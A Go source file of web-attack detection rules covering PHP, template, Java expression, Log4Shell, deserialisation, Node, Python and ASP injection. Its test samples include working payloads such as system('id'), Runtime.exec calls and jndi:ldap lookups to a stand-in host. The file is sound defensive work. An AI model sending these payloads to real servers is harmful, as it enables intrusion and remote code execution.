package triage

const (
	sourceCode     = "https://owasp.org/www-community/attacks/Code_Injection"
	sourceSSTI     = "https://portswigger.net/web-security/server-side-template-injection"
	sourceOGNL     = "https://cwiki.apache.org/confluence/display/WW/S2-045"
	sourceUnserial = "https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html"
	sourceLog4j    = "https://nvd.nist.gov/vuln/detail/CVE-2021-44228"
)

// phpGap is what PHP allows between a function's name and its bracket.
const (
	phpComment = `(?:/\*.*?\*/)?`
	phpGap     = `(?:\s|/\*(?s:.*?)\*/|(?:#|//)[^\n]*\n)*`
)

// codeRules look for program text: PHP, Java expression languages, templates, JavaScript on servers,
// serialised objects.
var codeRules = []Rule{
	{
		ID: "php-tag", Class: RCE, Level: High, Field: InAny,
		Words:   []string{"<?", "[php]", "[/php]", "[\\php]", "<%", "<script language"},
		Pattern: `<\?(?:php|=|\s|xml\s*:|$)|\[[/\\]?php\]|<%[=@!\s]|<script\s+language\s*=\s*["']?php`,
		Why:     "program text for the server (PHP, ASP or JSP tags)",
		Source:  sourceCode,
		Hit:     []string{"GET /a?x=%3C%3Fphp%20echo%201;%3F%3E", "GET /a?x=<?=1?>", "GET /a?x=%3C%25%3D7*7%25%3E"},
		Miss:    []string{"GET /a?x=%3C%3Fxml%20version=%221.0%22%3F%3E"},
	},
	{
		ID: "php-call", Class: RCE, Level: High, Field: InAny,
		Words: []string{"system", "shell_exec", "passthru", "exec", "popen", "proc_open", "eval", "assert", "phpinfo", "base64_decode", "file_put_contents", "file_get_contents", "create_function",
			"call_user_func", "preg_replace", "include", "require", "fopen", "gzinflate", "gzuncompress", "gzdecode", "str_rot13", "md5(", "print(", "curl_", "move_uploaded", "ini_set", "readfile", "fsockopen", "pfsockopen", "unserialize", "highlight_file", "show_source", "die(", "chr(", "scandir", "var_dump", "print_r", "phpversion", "fwrite", "fputs", "posix_", "pcntl_", "array_map", "ob_start", "invokefunction", "unlink", "set_error_handler", "register_shutdown", "parse_str", "extract(", "glob("},
		Pattern: `\b(?:system|shell_exec|passthru|exec|popen|proc_open|eval|assert|phpinfo|base64_decode|file_put_contents|file_get_contents|create_function|call_user_func(?:_array)?|preg_replace|include(?:_once)?|require(?:_once)?|fopen|gzinflate|gzuncompress|gzdecode|str_rot13|curl_(?:init|exec|setopt)|move_uploaded_file|ini_set|readfile|p?fsockopen|unserialize|highlight_file|show_source|scandir|var_dump|print_r|phpversion|fwrite|fputs|posix_\w+|pcntl_\w+|array_map|ob_start|unlink|set_error_handler|register_shutdown_function|parse_str)["']?` + phpGap + `\(|\bchr\s*\(\s*\d+\s*\)\s*[.&]|[.&]\s*chr\s*\(\s*\d|(?:gz(?:inflate|decode|uncompress)|fsockopen)\s*\(|\b(?:print|echo|die|return)\b[\s(]*["']?(?:md5|chr|system|phpinfo|\$_|base64|[a-z_]{3,30}["']?\s*\()|@(?:eval|print|system|include|assert)\b|\b(?:include|require)(?:_once)?\s+["']|preg_replace.{0,80}/e`,
		Why:     "calls functions of PHP that run code or touch files",
		Source:  sourceCode,
		Hit:     []string{"GET /a?x=system('id')", "GET /a?x=phpinfo();", "GET /a?x=@eval($_POST[1])", "GET /a?x=${@print(md5(1))}", "GET /a?x=(chr(105).chr(100))()"},
		Miss:    []string{"GET /a?q=operating+system", "GET /a?id=1%20AND%20b=(CHR(83)%7C%7CCHR(98))", "GET /blog/gdb-eval-trickery", "GET /a?q=exec+noun", "GET /a?q=print+(large)"},
	},
	{
		ID: "php-call-weak", Class: RCE, Level: Medium, Last: true, Field: InQuery | InPath,
		Needs: "(",
		Words: []string{"_", "crypt", "strlen", "strrev", "implode", "explode", "hex2bin", "bin2hex", "pack(", "chmod(", "chown(", "mkdir(", "getenv", "putenv", "link(", "dir(", "tempnam", "tmpfile", "fread(", "fgets(", "fclose(", "feof(",
			"printf", "levenshtein", "metaphone", "getcwd", "gzopen", "gzread", "gzfile", "bz", "uniqid", "rand(", "usleep", "dechex", "hexdec", "strtr(", "strstr", "strpos", "wordwrap", "trim(", "nl2br", "copy(", "rename(", "touch(", "stat(", "umask", "chroot",
			"intval", "floatval", "serialize", "pi(", "filegroup", "fileowner", "fileperms", "filesize", "filetype", "fileatime", "gettype", "settype", "ucwords", "ucfirst", "sizeof", "array(", "list(", "function("},
		Pattern: `(?:^|[^\w$>-])[a-z][a-z0-9]{0,15}(?:_[a-z0-9]{1,24}){1,5}` + phpGap + `\(|(?:^|[^\w$>-])(?:crypt|strlen|strrev|implode|explode|hex2bin|bin2hex|unpack|chmod|chown|chgrp|mkdir|getenv|putenv|symlink|readlink|opendir|readdir|tempnam|tmpfile|fread|fgets|fclose|feof|v?sprintf|v?fprintf|printf|levenshtein|metaphone|getcwd|getmypid|gzopen|gzread|gzfile|bz(?:open|read|write|compress|decompress)|uniqid|srand|usleep|dechex|hexdec|octdec|bindec|strtr|strstr|stristr|strpos|wordwrap|ltrim|rtrim|nl2br|rmdir|lstat|fstat|umask|chroot|(?:intval|floatval|(?:un)?serialize|filegroup|fileowner|fileperms|filesize|filetype|fileatime|gettype|settype|ucwords|ucfirst|sizeof))` + phpGap + `\(|(?:^|[=;,(@!{])(?:pi|copy|rename|touch|stat|link|pack|dir|rand|array)` + phpComment + `\(\s*(?:\)|[^\d\s])`,
		Why:     "a call of a PHP function as a value",
		Source:  sourceCode,
		Hit:     []string{"GET /a?x=strrev(abc)", "GET /a?x=array_diff%20(a,b)", "GET /a?x=intval/*a*/(1)"},
		Miss:    []string{"GET /a?q=photo+(2)", "GET /a?id=foo_bar", "GET /a?q=scrapbook+pack+(8.5)"},
	},
	{
		ID: "php-directive", Class: RCE, Level: Medium, Field: InQuery | InName | InPath,
		Words:   []string{"allow_url", "auto_prepend", "auto_append", "disable_func", "open_basedir", "extension_dir", "memory_limit", "safe_mode", "suhosin", "cgi.force", "display_errors", "max_execution", "error_log", "sendmail_path", "session.save", "zend_extension", "opcache.", "define("},
		Pattern: `(?:allow_url_(?:fopen|include)|auto_(?:prepend|append)_file|disable_functions|open_basedir|extension_dir|memory_limit|safe_mode|suhosin\.simulation|cgi\.force_redirect|display_errors|max_execution_time|error_log|sendmail_path|session\.save_path|zend_extension|opcache\.\w+)\s*=|\bdefine\s*\(\s*["']`,
		Why:     "a directive of php.ini, or a definition",
		Source:  "https://www.php.net/manual/en/ini.list.php",
		Hit:     []string{"GET /a?x=memory_limit%20=%20512M", "GET /a?x=define('z','y')"},
		Miss:    []string{"GET /a?q=memory_limit"},
	},
	{
		ID: "php-variable", Class: RCE, Level: High, Field: InAny,
		Words:   []string{"$_", "$globals", "${", "$argv", "_request[", "_get[", "_post[", "_server[", "_files[", "_cookie[", "globals[", "$http_", "$"},
		Pattern: `\$_\s*(?:get|post|request|server|files|cookie|session|env)\b|\$globals\b|^(?:_(?:get|post|request|server|files|cookie|session|env)|globals)\[|\$http_(?:raw_post|post_vars|get_vars)|\$\{\s*@|\$\{\s*\w+\s*\(|\$\s+\{\s*["'$\w]|\$\{\s*["']|\$\w{1,24}\s*(?:\[[^\]]*\]|\{[^}]*\})*` + phpGap + `\(|\$\{?[a-z_]\w{0,24}\}?\s*=\s*["'$(\w]|\$\$[a-z_{]`,
		Except:  `(?:^|&)\$(?:filter|select|orderby|top|skip|skiptoken|expand|count|search|format|inlinecount|apply|compute|levels)\s*=`, // OData
		Why:     "variables of PHP in a value",
		Source:  sourceCode,
		Hit:     []string{"GET /a?x=$_GET[1]", "GET /a?_SERVER[DOCUMENT_ROOT]=x", "GET /a?x=$a('id')"},
		Miss:    []string{"GET /a?price=$100", "GET /a?x[$y]=1", "GET /odata/Products?$filter=Name+eq+'Milk'&$select=Name"},
	},
	{
		ID: "code-indirect-call", Class: RCE, Level: Medium, Last: true, Field: InQuery | InPath,
		Words:   []string{")(", ") (", "](", "] (", "]{", "] {", "]) ", ")/", "*/(", "*/ (", "*/\t(", "*/\n(", ") {", "')(", "\"(", "'(", "}("},
		Pattern: `(?:^|[=;,{}@!])\s*[(\[](?:[a-z_.'"\[\]\s()]|/\*.*?\*/)+[)\]]\s*(?:[\[{](?:/\*.*?\*/|\s)*\d+\s*[\]}]\s*)?\)?\s*\((?:/\*.*?\*/|\s)*["'@\w$]|\[\s*\w+\s*\]\s*\[(?:/\*.*?\*/|\s)*\d+(?:/\*.*?\*/|\s)*\]\s*\)?\s*[({]|["'][a-z_]{3,30}["']\s*\]?\s*(?:\[\d+\])?\s*\(|\{[^}]{1,30}\}\s*\(\s*["'@\w]|\b[a-z_]\w{1,30}\s*/\*(?s:.{0,60}?)\*/\s*\(`,
		Why:     "calls a function through a string or bracket, to hide its name",
		Source:  "https://github.com/coreruleset/coreruleset/blob/main/rules/REQUEST-933-APPLICATION-ATTACK-PHP.conf",
		Hit:     []string{"GET /a?x=(['system'])[0]('id');", "GET /a?x=(sy.(st).em)(id)", "GET /a?x=%22sys_tem%22('id')"},
		Miss:    []string{"GET /a?q=red+(blue)", "GET /a?q=a(b)"},
	},
	{
		ID: "template", Class: RCE, Level: High, Field: InAny,
		Words:   []string{"{{", "${", "#{", "!{", "<#", "{%", "#set", "*{", "@{", "@(", "%{", "{php}", "{if", "[[", "{$", "__${", "{system", "{passthru", "{exec", "{eval", "{shell_exec"},
		Pattern: `\{\{\s*[^}]*(?:\d\s*[*+/-]\s*['\d]|\[|\(|\||__|'|\bself\b|\bconfig\b|\brequest\b|\bsettings\b|constructor)[^}]*\}\}|[$#*@%!]\{\s*(?:["']?\d+["']?\s*[*+/-]\s*["']?\d|[a-z_.]{2,60}\s*\(|\(|'[^']*'\s*\.|t\(|new\s)|<#(?:assign|list|include|import|if)\b|\{%\s*[a-z]|#set\s*\(|@\{\s*\[|@\(\s*\d+\s*[*+-]\s*\d|\{php\}|\{\$smarty|\[\[\s*\$\{|\{if\s+[a-z_]+\(|__\$\{|\{(?:system|passthru|exec|eval|shell_exec)\s*\(|\{\{#(?:with|each)\s+["']`,
		Why:     "an expression for a template engine ({{7*7}}, ${7*7}, <#assign)",
		Source:  sourceSSTI,
		Hit:     []string{"GET /a?x={{7*7}}", "GET /a?x=$%7B7*7%7D", "GET /a?x=#%7B7*7%7D", "GET /a?x=%23{16*8787}", "GET /a?x={{config.items()}}", "GET /a?x=<%23assign+x=1>"},
		Miss:    []string{"GET /a?x={{name}}", "GET /image/%7B%7BbasketItem.id%7D%7D", "GET /a?x=%7B%22a%22:1%7D"},
	},
	{
		ID: "expression-java", Class: RCE, Level: High, Field: InAny,
		Words: []string{"getruntime", "processbuilder", "java.lang", "java.io", "java.net", "java.util", "javax.", "_memberaccess", "classloader", "ognl", "getclass", "forname", "freemarker", "xwork", "struts", "springframework",
			"t(java", "scriptengine", "getdeclared", "getmethod", "beanutils", "invoke", "org.apache", "runtime.exec", "velocity", "thymeleaf", "spel", "#context", "#parameters", "dispatcher.http", "nashorn", "groovy", "bsh.", "jexl", "com.sun.", "sun.misc", "#application", "#session", "script:"},
		Pattern: `getruntime|processbuilder|\bjava\.(?:lang|io|net|util|nio|beans|sql)\.|javax\.(?:script|naming|el|servlet|management)|_memberaccess|class(?:\.module)?[.\[]['"]?class(?:loader)?|\.classloader|\bognl\b.{0,40}[(@.]|\.?getclass\s*\(|\.forname\s*\(|freemarker\.template|xwork2?\b.{0,60}[@.(]|org\.(?:springframework|apache)\.\w+|\bt\s*\(\s*java|scriptengine|getdeclared(?:method|constructor|field)|\.getmethod\s*\(|runtime\.exec|#(?:context|parameters|application|session)\b\s*[\[.=]|com\.opensymphony|nashorn|groovy\.|\bbsh\.|com\.sun\.|sun\.misc\.|script:(?:javascript|js|groovy|nashorn)`,
		Why:     "Java code in an expression (OGNL, SpEL, EL)",
		Source:  sourceOGNL,
		Hit: []string{
			"GET /a?x=T(java.lang.Runtime).getRuntime().exec('id')", "GET /a?x=%25{(%23_memberAccess['allowStaticMethodAccess']=true)}",
			"GET /a?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
		},
		Miss: []string{"GET /a?q=java+lang+courses", "GET /docs/struts/"},
	},
	{
		ID: "log4shell", Class: RCE, Level: High, Field: InAny,
		Words:   []string{"${", "jndi"},
		Pattern: `\$\{\s*(?:jndi\b|(?:lower|upper|env|sys|java|date|ctx|main|map|base64|k8s|docker|spring|web|sd|bundle|marker|event|log4j|hostname)\s*:|[^{}]{0,40}:-|\$\{)|\bjndi\s*:\s*(?:ldaps?|rmi|dns|nis|iiop|corba|nds|https?)`,
		Why:     "Log4Shell: a lookup that makes log4j fetch code (CVE-2021-44228), plain or disguised",
		Source:  sourceLog4j, Product: "Apache Log4j", CVE: "CVE-2021-44228",
		Hit: []string{
			"agent: ${jndi:ldap://h.example/a}", "GET /?x=$%7Bjndi:dns://h.example%7D", "referer: ${${lower:j}ndi:rmi://h.example/a}",
			"GET /$%7B$%7B::-j%7D$%7B::-n%7Ddi:ldap://h.example/%7D", "agent: ${${env:X:-j}ndi:ldap://h.example}",
		},
		Miss: []string{"GET /a?q=${name}", "GET /scripts/${WEBLOC}/x", "GET /a?q=jndi+tutorial"},
	},
	{
		ID: "deserialise", Class: RCE, Level: High, Field: InAny,
		Words:   []string{"ro0ab", "aced0005", "aaeaaad/////", "o:", "c:", "!!python", "!!java", "!ruby", "_$$nd_func", "ysoserial", "objectdataprovider", "gadget", "aaeaaad_", "c__main__", "cos\nsystem", "__import__", "h4siaaaaaaaa", "\xac\xed", "a:", "clonetransformer", "invokertransformer", "\"@type\"", "/wey", "gasv", "y29zcnn5c3rlb", "y3bvc2l4"},
		Pattern: `\bro0ab|\baced0005|aaeaaad[/_]{4}|(?:^|[;{"'\s=])[oc]:\+?\d+:\\?"[a-z_\\]|(?:^|[;{])a:\d+:\{|!!(?:python|javax?)[/.]|!ruby/|_\$\$nd_func\$\$|ysoserial|objectdataprovider|c__main__|\bcos\nsystem|^h4siaaaaaaaa|\x{ac}\x{ed}|(?:clone|invoker)transformer|"@type"\s*:\s*"[a-z_$]+(?:\.[a-z_$0-9]+)+"|(?:^|__viewstate=)/wey[\w+/]{40,}|^gasv[\w+/-]{20,}|y29zcnn5c3rlb|y3bvc2l4`,
		Why:     "a serialised object (Java, .NET, PHP, Python, Ruby, Node)",
		Source:  sourceUnserial,
		Hit: []string{"GET /a?x=rO0ABXNyABFqYXZh", `GET /a?x=O:8:%22stdClass%22:0:%7B%7D`, "GET /a?x=!!python/object/new:exec",
			"GET /a?x=%7B%22@type%22:%22com.sun.rowset.JdbcRowSetImpl%22%7D", "GET /a?__VIEWSTATE=/wEyAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"},
		Miss: []string{"GET /a?x=foo:8:bar", "GET /a?x=o:1"},
	},
	{
		ID: "code-script", Class: RCE, Level: High, Field: InAny,
		Words:   []string{"child_process", "process.", "require(", "require ", "__proto__", "prototype", "__import__", "os.system", "os.popen", "__class__", "__mro__", "subclasses", "__globals__", "__builtins__", "subprocess", "kernel.", "io.popen", "io.read", "file.read", "open3", "global.", "constructor", "while(", "new function", "process[", "require[", "[system", "%x", "function(", "eval", "this.", "exports", "_load(", "console.", "string.prototype", "spawn", "__schema", "execsync", "readfilesync", "rubyvm", "__js_function", "reflect", "object.", "deno.", "bun."},
		Pattern: `child_process|\bprocess\.(?:mainmodule|binding|env|exit|spawn|kill|cwd|version|argv|stdout|getbuiltin)|\brequire\s*\(\s*["'` + "`" + `]|__proto__|constructor["'\]]*\s*[.\[]\s*["']?(?:prototype|constructor)|\]\s*\[?["']?prototype|__import__\s*\(|\bos\.(?:system|popen|exec)|__(?:class|mro|globals|builtins|subclasses|init|base|bases|dict|getattribute)__|subprocess\.|\b(?:kernel|open3|io|file|dir|process)\.(?:exec|popen\d?|spawn|open|read|sysopen|capture|system|fork|binread|readlines|glob|entries|write)\b\s*[("']?|\bglobal\.process|\bwhile\((?:[\s(]*[\w+!-]+)|new\s+function\s*\(|\[\s*system\s*["'(]|%x[\[{(|]|\(\s*function\s*\(|\bfunction\s*\(\s*\)\s*\{|eval\s*\(|this\.constructor|module\.exports|_load\s*\(|console\.(?:log|error|info|warn|debug|table|dir)(?:\.\w+)?\s*\(|\b(?:process|require)\s*\[|__js_function|(?:exec|spawn|readfile|writefile)sync\s*\(|reflect\.(?:get|construct|apply)|object\.(?:assign|defineproperty|prototype)|\bbuffer\.from\s*\(`,
		Why:     "program text (Node, Python, Ruby, Perl) in a value",
		Source:  sourceCode,
		Hit:     []string{"GET /a?x=require('child_process').exec('id')", "GET /a?__proto__[x]=1", "GET /a?x=Process.spawn(%22id%22)", "GET /a?x=''.__class__.__mro__", "GET /a?x=@%7B[system+%22id%22]%7D"},
		Miss:    []string{"GET /a?q=process.html", "GET /a?q=function+room+hire"},
	},
	{
		ID: "code-asp", Class: RCE, Level: High, Field: InAny,
		Words:   []string{"response.write", "server.createobject", "wscript.shell", "scripting.filesystem", "execute(", "execute ", "request(", "request.", "system.diagnostics", "process.start", "server.mappath", "adodb.stream"},
		Pattern: `response\.(?:write|end|binarywrite)\b|server\.(?:createobject|mappath|execute|scripttimeout)|wscript\.shell|scripting\.filesystemobject|\bexecute(?:global)?\s*\(?\s*(?:request|"|chr)|(?:eval|execute)\s*\(?\s*request|request\.(?:item|form|querystring)\s*[\[(]|system\.diagnostics|process\.start\s*\(|adodb\.stream`,
		Why:     "program text of ASP or .NET",
		Source:  sourceCode,
		Hit:     []string{"GET /a?x=response.write(7*7)", "GET /a?x=eval(Request.Item[%22z%22])"},
		Miss:    []string{"GET /a?q=request+form"},
	},
	{
		ID: "code-ssi", Class: RCE, Level: High, Field: InAny,
		Words:   []string{"<!--#", "<esi:"},
		Pattern: `<!--\s*#\s*(?:exec|include|echo|config|printenv|set|fsize|flastmod)|<esi:`,
		Why:     "a server-side include",
		Source:  "https://owasp.org/www-community/attacks/Server-Side_Includes_(SSI)_Injection",
		Hit:     []string{"GET /a?x=<!--%23exec+cmd=%22id%22-->"},
		Miss:    []string{"GET /a?x=<!--+a+-->"},
	},
}
